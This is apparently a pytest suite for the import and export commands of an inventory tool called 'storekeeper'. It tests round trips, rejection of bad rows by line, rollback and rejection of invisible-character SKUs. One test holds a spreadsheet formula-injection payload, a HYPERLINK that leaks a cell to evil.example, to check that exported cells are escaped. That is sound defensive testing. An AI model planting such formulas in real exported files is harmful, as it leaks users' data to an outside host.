"""`storekeeper import` and `storekeeper export` (issue 8), run as the real command on the test
database (SQLite and PostgreSQL): an export imported into an empty workspace reproduces it; a
file with bad rows is refused with each bad line named and nothing applied, even when the fault
shows only in a later batch."""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
from decimal import Decimal
from pathlib import Path

import pytest
from sqlalchemy import func, select

from storekeeper.persistence import totals
from storekeeper.persistence.tables import categories, items, locations, movements
from storekeeper.services import workspaces
from storekeeper.services.check import check
from tests.conftest import make_workspace

STOREKEEPER = [sys.executable, "-m", "storekeeper.cli.main"]


def cli(workspace, *args: str) -> subprocess.CompletedProcess:
    env = {name: value for name, value in os.environ.items() if not name.startswith("STOREKEEPER_")}
    env.update(STOREKEEPER_DATABASE_URL=workspace.db.url, COLUMNS="200")
    return subprocess.run([*STOREKEEPER, *args, "--workspace", workspace.id], env=env, capture_output=True,
                          text=True, timeout=120)


def ok(r):
    assert r.status_code in (200, 201), r.text
    return r.json()


def rows_of(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def counts(workspace) -> tuple[int, int, int, int]:
    with workspace.db.read() as conn:
        def n(table, *where):
            return conn.execute(select(func.count()).select_from(table).where(
                table.c.workspace_id == workspace.id, *where)).scalar_one()
        return n(items), n(movements), n(categories), n(locations)


def catalogue(api) -> None:
    """A small but varied workspace: categories, a parent with variants (at home in the shop),
    decimal materials, every kind of item field, stock at two locations with costs, sales and a
    transfer."""
    ok(api.post("/v1/locations", json={"name": "Main", "is_default": True}))
    ok(api.post("/v1/locations", json={"name": "Shop", "type": "store"}))
    candles = ok(api.post("/v1/categories", json={"name": "Candles"}))
    gifts = ok(api.post("/v1/categories", json={"name": "Gifts, seasonal"}))  # a comma: JSON in a CSV cell
    ok(api.post("/v1/items", json={
        "sku": "CANDLE-VAN", "name": "Vanilla candle", "categories": [candles["id"], gifts["id"]], "price": "12.50",
        "unit_cost": "3.10", "barcode": "4006381333931", "brand": "Northwick", "supplier": "Wax & Co",
        "tags": ["bestseller", "handmade"], "attributes": {"scent": "vanilla", "burn_hours": 40},
        "reorder_point": 20, "safety_stock": 5, "reorder_quantity": 60,
        "reorder_urls": ["https://wax.example/reorder/van"], "package_size": {"value": 250, "unit": "ml"},
        "images": [{"url": "https://cdn.example/van.jpg", "alt": "A candle, lit"}],
        "channels": {"shopify": {"published": True, "price": "13.90"}}, "metadata": {"legacy_id": "A-17"},
        "description": "Hand-poured, \"soy\" wax,\nin a glass jar."}))
    ok(api.post("/v1/items", json={"sku": "WAX", "name": "Soy wax", "kind": "material", "unit": "kg"}))
    ok(api.post("/v1/items", json={"sku": "TEE", "name": "T-shirt", "price": "16.80", "home_location": "Shop",
                                   "variants": [
        {"sku": "TEE-S", "attributes": {"size": "S"}}, {"sku": "TEE-M", "attributes": {"size": "M"}}]}))
    ok(api.post("/v1/items", json={"sku": "NOTE", "name": "Gift note", "tracking": "none"}))
    for body in ({"item": "CANDLE-VAN", "reason": "receipt", "delta": 30, "unit_cost": "3.10"},
                 {"item": "CANDLE-VAN", "reason": "receipt", "delta": 10, "unit_cost": "3.50"},
                 {"item": "CANDLE-VAN", "reason": "sale", "delta": -4},
                 {"item": "WAX", "reason": "receipt", "delta": "12.375", "unit_cost": "6.5"},
                 {"item": "TEE-S", "reason": "receipt", "delta": 6, "location": "Shop"},
                 {"item": "TEE-M", "reason": "receipt", "delta": 14, "unit_cost": "7"}):  # at its home
        ok(api.post("/v1/stock/adjustments", json=body))
    ok(api.post("/v1/stock/transfers", json={"item": "CANDLE-VAN", "to": "Shop", "quantity": 6}))


SHOWN = ("sku", "name", "description", "kind", "tracking", "unit", "barcode", "brand", "supplier", "category",
         "categories", "home_location", "parent", "tags", "attributes", "reorder_point", "safety_stock",
         "reorder_quantity", "reorder_urls", "unit_cost", "price", "package_size", "images", "channels", "metadata",
         "on_hand", "available", "status", "average_cost")


def by_sku(rows: list[dict], columns) -> dict[str, tuple]:
    return {r["sku"]: tuple(r[c] for c in columns) for r in rows}


@pytest.mark.parametrize("fmt", ["csv", "jsonl"])
def test_an_export_imported_into_an_empty_workspace_reproduces_its_items_and_stock(db, client, tmp_path, fmt):
    source = make_workspace(db, client, "Source")
    catalogue(source.api)
    items_file, stock_file = tmp_path / f"items.{fmt}", tmp_path / f"stock.{fmt}"
    for kind, path in (("items", items_file), ("stock", stock_file)):
        done = cli(source, "export", kind, "--output", str(path))
        assert done.returncode == 0, done.stderr
        assert f"Wrote {5 if kind == 'stock' else 6} {kind} rows" in done.stderr

    target = make_workspace(db, client, "Target")
    imported = cli(target, "import", "items", str(items_file))
    assert imported.returncode == 2  # the shirts' home location, Shop, is not in the target yet
    assert "home_location: No location 'Shop' exists." in imported.stderr and "--create-locations" in imported.stderr
    imported = cli(target, "import", "items", str(items_file), "--create-locations")
    assert imported.returncode == 0, imported.stderr
    assert "Created 6 items" in imported.stdout
    assert "new categories: Candles, Gifts, seasonal; new locations: Shop" in imported.stdout
    imported = cli(target, "import", "stock", str(stock_file), "--create-locations")
    assert imported.returncode == 0, imported.stderr
    assert "Recorded 5 stock changes" in imported.stdout and "new locations: Main." in imported.stdout

    def exported(workspace, kind):
        done = cli(workspace, "export", kind, "--format", "jsonl")
        assert done.returncode == 0, done.stderr
        return [json.loads(line) for line in done.stdout.splitlines()]

    assert by_sku(exported(target, "items"), SHOWN) == by_sku(exported(source, "items"), SHOWN)
    levels = ("location", "on_hand", "reserved", "unit_cost")
    assert sorted(tuple(r[c] for c in ("sku", *levels)) for r in exported(target, "stock")) == sorted(
        tuple(r[c] for c in ("sku", *levels)) for r in exported(source, "stock"))
    tee_m = next(r for r in exported(target, "items") if r["sku"] == "TEE-M")
    assert tee_m["parent"] == "TEE" and tee_m["attributes"] == {"size": "M"}
    assert check(db, target.id)[1] == []  # the dashboard's running totals included
    with db.read() as conn:  # which the import left folded, a row per location and unit, and per status
        kept, rows = totals.by_location(conn, target.id)
        statuses, status_rows = totals.by_status(conn, target.id)
    assert rows == sum(len(t.on_hand) for t in kept.values()) == 3 and status_rows == len(statuses)
    # What the API shows of the reproduced item is what it shows of the original.
    original = ok(source.api.get("/v1/items/CANDLE-VAN"))
    copy = ok(target.api.get("/v1/items/CANDLE-VAN"))
    for field in ("description", "tags", "attributes", "package_size", "images", "channels", "metadata",
                  "reorder_urls", "on_hand", "average_cost", "gross_price", "status"):
        assert copy[field] == original[field], field
    assert copy["category"] != original["category"]  # the target's own Candles
    assert ok(target.api.get(f"/v1/categories/{copy['category']}"))["name"] == "Candles"
    assert [ok(target.api.get(f"/v1/categories/{c}"))["name"] for c in copy["categories"]] == [
        "Candles", "Gifts, seasonal"]
    tee_s = ok(target.api.get("/v1/items/TEE-S"))
    assert ok(target.api.get(f"/v1/locations/{tee_s['home_location']}"))["name"] == "Shop"


def test_every_bad_item_row_is_reported_by_line_and_nothing_is_imported(db, client, tmp_path):
    workspace = make_workspace(db, client)
    ok(workspace.api.post("/v1/items", json={"sku": "TAKEN", "name": "Already here"}))
    before = counts(workspace)
    path = tmp_path / "items.csv"
    path.write_text(
        "sku,name,unit,price,category,attributes,parent,tax_rate\n"
        "GOOD-1,Good,pcs,9.90,New category,,,\n"            # line 2: fine
        "BAD-UNIT,Bad unit,furlongs,,,,,\n"                  # 3
        "BAD-PRICE,Bad price,,-1,,,,\n"                      # 4
        "GOOD-1,Again,,,,,,\n"                               # 5: repeats line 2
        "TAKEN,Taken,,,,,,\n"                                # 6: in use
        "BAD-JSON,Bad JSON,,,,{not json,,\n"                 # 7
        "ORPHAN,Orphan,,,,,NO-SUCH-PARENT,\n"                # 8
        ",No SKU,,,,,,\n"                                    # 9
        "BAD-TAX,Bad tax,,,,,,VAT 99%\n"                     # 10
        "GOOD-2,Good too,kg,1.5,,,,\n", encoding="utf-8")   # 11: fine
    done = cli(workspace, "import", "items", str(path))
    assert done.returncode == 2
    reported = [line for line in done.stderr.splitlines() if line.startswith("line ")]
    assert [int(line.split(":")[0].removeprefix("line ")) for line in reported] == [3, 4, 5, 6, 7, 8, 9, 10]
    assert "furlongs" in reported[0] and "price" in reported[1] and "line 2" in reported[2]
    assert "already in use" in reported[3] and "attributes: not valid JSON" in reported[4]
    assert "NO-SUCH-PARENT" in reported[5] and "sku" in reported[6] and "VAT 99%" in reported[7]
    assert "8 bad row(s) of 10; nothing was imported." in done.stderr
    assert counts(workspace) == before  # no item, no category


def test_a_file_with_an_unknown_column_is_refused_before_any_row(db, client, tmp_path):
    workspace = make_workspace(db, client)
    path = tmp_path / "items.csv"
    path.write_text("sku,name,prize\nA,A,1\n", encoding="utf-8")
    done = cli(workspace, "import", "items", str(path))
    assert done.returncode == 2
    assert "Unknown columns 'prize'" in done.stderr
    assert counts(workspace)[0] == 0


def test_every_bad_stock_row_is_reported_and_nothing_is_recorded(db, client, tmp_path):
    workspace = make_workspace(db, client)
    ok(workspace.api.post("/v1/locations", json={"name": "Main", "is_default": True}))
    ok(workspace.api.post("/v1/items", json={"sku": "LAMP", "name": "Lamp"}))
    ok(workspace.api.post("/v1/items", json={"sku": "NOTE", "name": "Note", "tracking": "none"}))
    before = counts(workspace)
    path = tmp_path / "stock.csv"
    path.write_text(
        "sku,location,on_hand,delta,reason,unit_cost\n"
        "LAMP,Main,10,,,\n"          # 2: fine (a count)
        "NOPE,Main,1,,,\n"           # 3: no such item
        "LAMP,Attic,1,,,\n"          # 4: no such location
        "LAMP,Main,,-2,receipt,\n"   # 5: a receipt takes nothing out
        "LAMP,Main,1,2,,\n"          # 6: a count and a delta
        "NOTE,Main,,1,receipt,\n"    # 7: not stocked
        "LAMP,Main,,abc,,\n"         # 8: not a number
        "LAMP,Main,,3,receipt,2.5\n", encoding="utf-8")  # 9: fine
    done = cli(workspace, "import", "stock", str(path))
    assert done.returncode == 2
    reported = [line for line in done.stderr.splitlines() if line.startswith("line ")]
    assert [int(line.split(":")[0].removeprefix("line ")) for line in reported] == [3, 4, 5, 6, 7, 8]
    assert "NOPE" in reported[0] and "Attic" in reported[1] and "receipt" in reported[2]
    assert "--create-locations" in done.stderr
    assert counts(workspace) == before


def test_stock_rows_without_a_location_go_to_each_items_home(db, client, tmp_path):
    workspace = make_workspace(db, client)
    ok(workspace.api.post("/v1/locations", json={"name": "Shop"}))
    ok(workspace.api.post("/v1/items", json={"sku": "LAMP", "name": "Lamp", "home_location": "Shop"}))
    ok(workspace.api.post("/v1/items", json={"sku": "ROPE", "name": "Rope"}))
    path = tmp_path / "stock.csv"
    path.write_text("sku,location,on_hand\nLAMP,,5\nROPE,,7\nLAMP,Main warehouse,2\n", encoding="utf-8")
    for args in (("--dry-run",), ()):
        done = cli(workspace, "import", "stock", str(path), *args)
        assert done.returncode == 0, done.stderr

    def at(sku):
        return {level["name"]: level["on_hand"] for level in ok(workspace.api.get(f"/v1/stock/{sku}"))["locations"]}

    assert (at("LAMP"), at("ROPE")) == ({"Shop": 5, "Main warehouse": 2}, {"Main warehouse": 7})


def test_an_items_home_location_must_exist_and_be_active_or_be_created(db, client, tmp_path):
    workspace = make_workspace(db, client)
    closed = ok(workspace.api.post("/v1/locations", json={"name": "Closed", "is_active": False}))
    before = counts(workspace)
    path = tmp_path / "items.csv"
    path.write_text("sku,name,home_location\n"
                    "LAMP,Lamp,Kiosk\n"                      # 2: unknown: created with --create-locations
                    "ROPE,Rope,Closed\n"                     # 3: inactive
                    f"NAIL,Nail,{closed['id']}\n"             # 4: inactive, by id
                    "TAPE,Tape,loc_01JC0000000000000000000000\n"  # 5: an id names one that exists, or none
                    "GLUE,Glue,Main warehouse\n", encoding="utf-8")
    done = cli(workspace, "import", "items", str(path), "--create-locations")
    assert done.returncode == 2
    assert [line for line in done.stderr.splitlines() if line.startswith("line ")] == [
        "line 3: home_location: Closed is inactive: it receives no stock.",
        "line 4: home_location: Closed is inactive: it receives no stock.",
        "line 5: home_location: No location 'loc_01JC0000000000000000000000' exists."]
    assert counts(workspace) == before  # no item, no location
    path.write_text("sku,name,home_location\nLAMP,Lamp,Kiosk\nGLUE,Glue,Main warehouse\nTAPE,Tape,\n",
                    encoding="utf-8")
    done = cli(workspace, "import", "items", str(path))
    assert done.returncode == 2 and "line 2: home_location: No location 'Kiosk' exists." in done.stderr
    done = cli(workspace, "import", "items", str(path), "--create-locations")
    assert done.returncode == 0, done.stderr
    assert "new locations: Kiosk" in done.stdout
    homes = {sku: ok(workspace.api.get(f"/v1/items/{sku}"))["home_location"] for sku in ("LAMP", "GLUE", "TAPE")}
    names = {place["id"]: place["name"] for place in ok(workspace.api.get("/v1/locations"))["data"]}
    assert {sku: names.get(home) for sku, home in homes.items()} == {
        "LAMP": "Kiosk", "GLUE": "Main warehouse", "TAPE": None}


def test_a_fault_that_shows_only_when_applied_rolls_back_every_batch(db, client, tmp_path):
    """600 rows: the first batch of 500 applies, the second oversells on its last row; the
    import is one transaction, so the first batch is rolled back too."""
    workspace = make_workspace(db, client)
    ok(workspace.api.post("/v1/locations", json={"name": "Main", "is_default": True}))
    ok(workspace.api.post("/v1/items", json={"sku": "LAMP", "name": "Lamp"}))
    before = counts(workspace)
    lines = ["sku,delta,reason"] + ["LAMP,1,receipt"] * 599 + ["LAMP,-1000,sale"]
    path = tmp_path / "stock.csv"
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    done = cli(workspace, "import", "stock", str(path))
    assert done.returncode == 2, done.stdout
    # 599 on hand: the first batch had applied when the second failed.
    assert [line for line in done.stderr.splitlines() if line.startswith("line ")] == [
        "line 601: LAMP has 599 on hand at this location; 1000 more cannot go out."]
    assert counts(workspace) == before
    assert ok(workspace.api.get("/v1/stock/LAMP"))["on_hand"] == 0
    # The same file without its last row applies whole, as one movement per row.
    path.write_text("\n".join(lines[:-1]) + "\n", encoding="utf-8")
    done = cli(workspace, "import", "stock", str(path))
    assert done.returncode == 0, done.stderr
    assert ok(workspace.api.get("/v1/stock/LAMP"))["on_hand"] == 599
    page = ok(workspace.api.get("/v1/stock/movements?limit=1"))
    assert page["meta"]["total"] == 599 and page["data"][0]["actor"]["name"] == "import"
    assert check(db, workspace.id)[1] == []


def test_a_dry_run_checks_every_row_and_applies_nothing(db, client, tmp_path):
    workspace = make_workspace(db, client)
    path = tmp_path / "items.jsonl"
    path.write_text('{"sku": "A", "name": "A", "price": 1.10}\n{"sku": "B", "name": "B", "unit": "kg"}\n',
                    encoding="utf-8")
    done = cli(workspace, "import", "items", str(path), "--dry-run")
    assert done.returncode == 0, done.stderr
    assert "2 items rows checked" in done.stdout
    assert counts(workspace)[0] == 0
    done = cli(workspace, "import", "items", str(path))
    assert done.returncode == 0, done.stderr
    assert ok(workspace.api.get("/v1/items/A"))["price"] == "1.10"


def test_variants_may_come_before_their_parent_and_join_an_existing_parent(db, client, tmp_path):
    workspace = make_workspace(db, client)
    ok(workspace.api.post("/v1/items", json={"sku": "MUG", "name": "Mug", "variants": [
        {"sku": "MUG-RED", "attributes": {"colour": "red"}}]}))
    path = tmp_path / "items.csv"
    path.write_text(
        "sku,name,parent,attributes,price\n"
        'TEE-S,,TEE,"{""size"": ""S""}",\n'
        'TEE,T-shirt,,,16.80\n'
        'MUG-BLUE,,MUG,"{""colour"": ""blue""}",\n'
        'MUG-RED-2,,MUG,"{""colour"": ""red""}",\n', encoding="utf-8")
    done = cli(workspace, "import", "items", str(path))
    assert done.returncode == 2
    assert "line 5: attributes: MUG already has a variant with these attributes." in done.stderr
    path.write_text("\n".join(path.read_text().splitlines()[:-1]) + "\n", encoding="utf-8")
    done = cli(workspace, "import", "items", str(path))
    assert done.returncode == 0, done.stderr
    tee = ok(workspace.api.get("/v1/items/TEE"))
    assert tee["has_variants"] and [v["sku"] for v in tee["variants"]] == ["TEE-S"]
    assert ok(workspace.api.get("/v1/items/TEE-S"))["price"] == "16.80"  # inherited
    assert ok(workspace.api.get("/v1/items/TEE-S"))["name"] == "T-shirt / S"
    assert ok(workspace.api.get("/v1/items/MUG"))["variant_count"] == 2


def test_the_only_workspace_is_the_default_and_several_need_a_name(db, client, tmp_path):
    # The test database holds many workspaces: without --workspace the command says so.
    env = {name: value for name, value in os.environ.items() if not name.startswith("STOREKEEPER_")}
    env.update(STOREKEEPER_DATABASE_URL=db.url)
    assert len(workspaces.list_workspaces(db)) > 1
    done = subprocess.run([*STOREKEEPER, "export", "items"], env=env, capture_output=True, text=True, timeout=60)
    assert done.returncode == 2 and "--workspace" in done.stderr


def test_movements_export_is_the_ledger_oldest_first(db, client, tmp_path):
    workspace = make_workspace(db, client)
    catalogue(workspace.api)
    done = cli(workspace, "export", "movements")
    assert done.returncode == 0, done.stderr
    rows = rows_of(done.stdout)
    assert [int(r["sequence"]) for r in rows] == list(range(1, 9))
    assert [r["reason"] for r in rows][-2:] == ["transfer_out", "transfer_in"]
    assert sum(Decimal(r["delta"]) for r in rows if r["sku"] == "CANDLE-VAN") == 36
    assert rows[3]["sku"] == "WAX" and rows[3]["delta"] == "12.375" and rows[3]["unit_cost"] == "6.50"


def test_an_export_to_a_file_that_fails_leaves_no_partial_file(db, client, tmp_path):
    workspace = make_workspace(db, client)
    output = tmp_path / "missing-dir" / "items.csv"
    done = cli(workspace, "export", "items", "--output", str(output))
    assert done.returncode != 0
    assert not output.exists() and not Path(str(output) + ".partial").exists()


FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Invoice")'


def test_cells_that_look_like_formulas_are_escaped_in_the_file_and_imported_unchanged(db, client, tmp_path):
    """Issue 19, item 5: names, SKUs, notes and tags starting with `=`, `+`, `-` or `@` (or with a
    quote before one) are written with one more quote in front, and read back without it."""
    source = make_workspace(db, client, "Source")
    ok(source.api.post("/v1/locations", json={"name": "@Back room"}))
    ok(source.api.post("/v1/items", json={
        "sku": "-CANDLE", "name": FORMULA, "description": "-- fragile --\n=glass", "brand": "'=quoted",
        "supplier": "+44 20 7946 0000", "tags": ["-sale", "@home"], "metadata": {"note": "=1"}, "price": "12.50",
        "variants": [{"sku": "=CANDLE-S", "name": "'+small", "attributes": {"size": "=S"}}]}))
    ok(source.api.post("/v1/items", json={"sku": "'TIL", "name": "'Til dawn", "supplier": "''=twice"}))
    for sku in ("=CANDLE-S", "'TIL"):
        ok(source.api.post("/v1/stock/adjustments", json={"item": sku, "location": "@Back room",
                                                          "reason": "receipt", "delta": 7, "unit_cost": "3"}))
    items_file, stock_file = tmp_path / "items.csv", tmp_path / "stock.csv"
    for kind, path in (("items", items_file), ("stock", stock_file)):
        done = cli(source, "export", kind, "--output", str(path))
        assert done.returncode == 0, done.stderr
    written = by_sku(rows_of(items_file.read_text()), ("name", "description", "brand", "supplier", "tags", "parent"))
    assert written == {
        "'-CANDLE": ("'" + FORMULA, "'-- fragile --\n=glass", "''=quoted", "'+44 20 7946 0000", "'-sale, @home", ""),
        "'=CANDLE-S": ("''+small", "'-- fragile --\n=glass", "''=quoted", "'+44 20 7946 0000", "'-sale, @home",
                       "'-CANDLE"),
        "'TIL": ("'Til dawn", "", "", "'''=twice", "", "")}
    assert {(r["sku"], r["location"]) for r in rows_of(stock_file.read_text())} == {
        ("'=CANDLE-S", "'@Back room"), ("'TIL", "'@Back room")}

    target = make_workspace(db, client, "Target")
    for args in (("items", str(items_file)), ("stock", str(stock_file), "--create-locations")):
        done = cli(target, "import", *args)
        assert done.returncode == 0, done.stderr

    def exported(workspace, kind):
        done = cli(workspace, "export", kind, "--format", "jsonl")
        assert done.returncode == 0, done.stderr
        return [json.loads(line) for line in done.stdout.splitlines()]

    assert by_sku(exported(target, "items"), SHOWN) == by_sku(exported(source, "items"), SHOWN)
    assert sorted((r["sku"], r["location"], r["on_hand"]) for r in exported(target, "stock")) == [
        ("'TIL", "@Back room", 7), ("=CANDLE-S", "@Back room", 7)]
    assert ok(target.api.get("/v1/items/=CANDLE-S"))["name"] == "'+small"

    # A file written by hand: a quote before a trigger is taken off, any other cell is read as it is.
    hand = tmp_path / "hand.csv"
    hand.write_text("sku,name,supplier\n'@HAND,'Til dawn,=no quote\n", encoding="utf-8")
    done = cli(target, "import", "items", str(hand))
    assert done.returncode == 0, done.stderr
    made = ok(target.api.get("/v1/items/@HAND"))
    assert (made["name"], made["supplier"]) == ("'Til dawn", "=no quote")
    hand.write_text("sku,location,delta,reason,note\n'@HAND,'@Back room,2,receipt,'=recount\n"
                    "'@HAND,@Back room,1,receipt,'Til dawn\n", encoding="utf-8")
    done = cli(target, "import", "stock", str(hand))
    assert done.returncode == 0, done.stderr
    notes = [m["note"] for m in ok(target.api.get("/v1/items/@HAND/movements?order=asc"))["data"]]
    assert notes == ["=recount", "'Til dawn"]


def test_an_import_refuses_skus_with_invisible_characters_like_the_api(db, client, tmp_path):
    """Issue 19, item 6: the API's SKU rule, line by line; nothing is imported."""
    workspace = make_workspace(db, client)
    path = tmp_path / "items.csv"
    path.write_text("sku,name,parent\nLAMP,Lamp,\nLAMP\u202e1,Mirrored,\n\ufeffLAMP-2,Marked,\nLAMP\u200b,Hidden,\n"
                    "LAMP-S\u2066,,LAMP\n", encoding="utf-8")
    done = cli(workspace, "import", "items", str(path))
    assert done.returncode == 2, done.stdout
    reported = [line for line in done.stderr.splitlines() if line.startswith("line ")]
    assert [line.split(": A SKU must not contain ")[1].split(" ")[0] for line in reported] == [
        "U+202E", "U+FEFF", "U+200B", "U+2066"]
    assert [line.split(":")[0] for line in reported] == ["line 3", "line 4", "line 5", "line 6"]
    assert counts(workspace)[0] == 0
    jsonl = tmp_path / "items.jsonl"
    jsonl.write_text(json.dumps({"sku": "LAMP\ufdd0", "name": "Lamp"}) + "\n", encoding="utf-8")
    done = cli(workspace, "import", "items", str(jsonl))
    assert done.returncode == 2 and "line 1: sku: A SKU must not contain U+FDD0" in done.stderr


def test_labels_go_out_with_the_movements_and_come_back_through_import_stock(db, client, tmp_path):
    """A stock file's `label` column labels each change; the movements export shows every label
    (escaped in CSV like any text), and its cells, read back by `import stock` in another
    workspace, give the same labels. A bad label is a bad row, named by its line."""
    source = make_workspace(db, client, "Source")
    ok(source.api.post("/v1/items", json={"sku": "LAMP", "name": "Brass lamp"}))
    stock_file = tmp_path / "stock.csv"
    stock_file.write_text("sku,delta,reason,label\nLAMP,10,receipt,supplier_receipt\nLAMP,-2,sale,=web order\n"
                          "LAMP,-1,sale,\nLAMP,5,count,cycle count 7\n", encoding="utf-8")
    done = cli(source, "import", "stock", str(stock_file))
    assert done.returncode == 0, done.stderr
    labelled = ["supplier_receipt", "=web order", None, "cycle count 7"]
    assert [m["label"] for m in ok(source.api.get("/v1/stock/movements?order=asc"))["data"]] == labelled

    export = tmp_path / "movements.csv"
    done = cli(source, "export", "movements", "--output", str(export))
    assert done.returncode == 0, done.stderr
    rows = rows_of(export.read_text(encoding="utf-8"))
    assert [r["label"] for r in rows] == ["supplier_receipt", "'=web order", "", "cycle count 7"]
    done = cli(source, "export", "movements", "--format", "jsonl")
    assert [json.loads(line)["label"] for line in done.stdout.splitlines()] == labelled

    target = make_workspace(db, client, "Target")
    ok(target.api.post("/v1/items", json={"sku": "LAMP", "name": "Brass lamp"}))
    replay = tmp_path / "replay.csv"
    columns = ("sku", "location", "delta", "reason", "note", "label")
    with replay.open("w", newline="", encoding="utf-8") as f:
        writer = csv.writer(f)
        writer.writerow(columns)
        writer.writerows([r[c] for c in columns] for r in rows)
    done = cli(target, "import", "stock", str(replay))
    assert done.returncode == 0, done.stderr
    copied = ok(target.api.get("/v1/stock/movements?order=asc"))["data"]
    assert [(m["label"], m["delta"]) for m in copied] == list(zip(labelled, [10, -2, -1, 5], strict=True))
    assert check(db, target.id)[1] == []

    bad = tmp_path / "bad.csv"
    bad.write_text(f"sku,delta,reason,label\nLAMP,1,receipt,fine\nLAMP,1,receipt,{'x' * 65}\n"
                   "LAMP,1,receipt,\"tab\tinside\"\n", encoding="utf-8")
    done = cli(target, "import", "stock", str(bad))
    assert done.returncode == 2, done.stdout
    assert "line 3" in done.stderr and "label: At most 64 characters." in done.stderr
    assert "line 4" in done.stderr and "label: Must not contain control characters (U+0009)." in done.stderr
    assert len(ok(target.api.get("/v1/stock/movements"))["data"]) == 4


def test_exports_carry_the_numbers_and_an_import_gives_its_own(db, client, tmp_path):
    source = make_workspace(db, client, "Source")
    catalogue(source.api)
    numbers = {i["sku"]: i["number"] for i in ok(source.api.get("/v1/items", params={"limit": 100}))["data"]}
    assert numbers == {"CANDLE-VAN": 1, "WAX": 2, "TEE": 3, "TEE-S": 4, "TEE-M": 5, "NOTE": 6}

    def exported(kind: str, fmt: str = "jsonl") -> list[dict]:
        done = cli(source, "export", kind, "--format", fmt)
        assert done.returncode == 0, done.stderr
        return rows_of(done.stdout) if fmt == "csv" else [json.loads(line) for line in done.stdout.splitlines()]

    assert {r["sku"]: r["number"] for r in exported("items")} == numbers
    assert list(rows_of(cli(source, "export", "items").stdout)[0])[-2:] == ["number", "categories"]  # new go last
    assert all(r["item_number"] == numbers[r["sku"]] for r in exported("stock"))
    assert all(r["item_number"] == numbers[r["sku"]] for r in exported("movements"))
    assert {r["sku"]: r["item_number"] for r in exported("stock", "csv")}["WAX"] == "2"

    # The target numbers the imported rows itself, after what it has: numbers are not copied.
    target = make_workspace(db, client, "Target")
    ok(target.api.post("/v1/items", json={"sku": "ALREADY", "name": "Already here"}))
    items_file, stock_file = tmp_path / "items.csv", tmp_path / "stock.csv"
    for kind, path in (("items", items_file), ("stock", stock_file)):
        assert cli(source, "export", kind, "--output", str(path)).returncode == 0
    imported = cli(target, "import", "items", str(items_file), "--create-locations")  # homes
    assert imported.returncode == 0, imported.stderr
    imported = cli(target, "import", "stock", str(stock_file), "--create-locations")
    assert imported.returncode == 0, imported.stderr  # its item_number column is skipped
    copied = {i["sku"]: i["number"] for i in ok(target.api.get("/v1/items", params={"limit": 100}))["data"]}
    assert copied.pop("ALREADY") == 1
    assert (copied.keys(), sorted(copied.values())) == (numbers.keys(), [2, 3, 4, 5, 6, 7])
